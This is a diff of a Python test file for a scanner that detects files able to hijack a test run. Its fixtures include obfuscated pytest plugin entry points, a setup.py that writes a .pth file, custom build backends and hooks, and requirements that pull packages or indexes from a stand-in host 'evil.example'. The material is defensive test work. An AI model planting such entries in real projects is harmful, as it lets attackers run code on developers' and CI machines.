@@ -61,6 +61,19 @@ def places(seen: list[Suspicion]) -> list[tuple[str, int]]:
         ("src/evil.egg-info/entry_points.txt", "[pytest11]\nevil = evil\n", 1),
         ("setup.cfg", "[metadata]\n[options.entry_points]\npytest11 =\n    evil = evil\n", 3),
         ("setup.py", "from setuptools import setup\nsetup(entry_points={'pytest11': ['e = e']})\n", 2),
+        ("setup.py", "from setuptools import setup\nsetup(entry_points={'py' + 'test11': ['e = e']})\n", 1),
+        ("setup.py", "import glob\nopen(glob.glob('/opt/*/x.pth')[0], 'w')\n", 1),
+        ("pyproject.toml", PYPROJECT + '[project.entry-points."pytest\\u0031\\u0031"]\ne = "e"\n', 5),
+        ("pyproject.toml", PYPROJECT + "[build-system]\nbuild-backend = 'b'\nbackend-path = ['.']\n", 5),
+        ("pyproject.toml", PYPROJECT + "[tool.hatch.build.hooks.custom]\n", 5),
+        ("pyproject.toml", PYPROJECT + "[tool.uv.sources]\nsix = {path = 'six'}\n", 5),
+        ("pyproject.toml", PYPROJECT + "[dependency-groups]\ndev = ['pytest-evil']\n", 5),
+        ("pyproject.toml", PYPROJECT + "[tool.poetry.dependencies]\nsix = {git = 'https://e.x/y'}\n", 5),
+        ("plugins.txt", "[pytest11]\nevil = evil\n", 1),
+        ("requirements.txt", "six @ https://evil.example/six.whl\n", 1),
+        ("requirements/dev.txt", "-e ./evil\n", 1),
+        ("requirements.txt", "--index-url https://evil.example/\n", 1),
+        ("requirements-test.txt", "pytest-evil\n", 1),
         ("json.so", b"\x7fELF\0", 1),
         ("lib.zip", b"PK\3\4", 1),
         ("node_modules/assertly/index.js", "module.exports = () => {}\n", 1),
@@ -91,7 +104,7 @@ def test_what_steers_the_tests_is_listed(
         ("src/product/metadata.py", "NAME = 'product'\n"),
         ("src/product/pytest.py", ""),
         (".github/workflows/ci.yml", "run: PYTHONPATH=src pytest\n"),
-        ("setup.py", "import sys\nfrom setuptools import setup\nsetup(script_args=sys.argv)\n"),
+        ("noxfile.py", "import sys\nfrom nox import run\nrun(sys.argv)\n"),
     ],
 )
 def test_other_files_are_not_listed(tmp_path: Path, path: str, text: str) -> None:
@@ -447,3 +460,32 @@ def test_hostile_sources_are_examined_in_time(tmp_path: Path, code: str) -> None
     start = process_time()
     suspicions(workspace, before, after, recognise(workspace, before), ["m.py", "tests/test_n.py"])
     assert process_time() - start < 10
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        (
+            "requirements.txt",
+            "six>=1.2 ; python_version < '3.12'  # old\n-r more.txt\npytest>=8\nx[a, b]==1\n",
+        ),
+        ("pyproject.toml", PYPROJECT.replace("[project]", "[project]\ndependencies = ['six>=1', 'a[b]']")),
+        (
+            "pyproject.toml",
+            PYPROJECT + "[project.scripts]\nshop = 'm:add'\n[dependency-groups]\nd = ['pytest']\n",
+        ),
+        (
+            "pyproject.toml",
+            PYPROJECT + "[tool.poetry.dependencies]\nsix = '^1'\nx = {version = '1', extras = ['y']}\n",
+        ),
+        ("setup.cfg", "[metadata]\nname = m\n[options]\ninstall_requires = six\n"),
+    ],
+)
+def test_plain_dependencies_are_not_suspicious(path: str, text: str, tmp_path: Path) -> None:
+    assert scan(tmp_path, {path: text}) == []
+
+
+def test_descriptions_in_setup_py_are_not_suspicious(tmp_path: Path) -> None:
+    script = "from setuptools import setup\n\nsetup(name='m', version={0!r}, install_requires={1!r})\n"
+    base = BASE | {"setup.py": script.format("1", ["six"])}
+    assert scan(tmp_path, {"setup.py": script.format("2", ["six", "iniconfig>=1"])}, base) == []
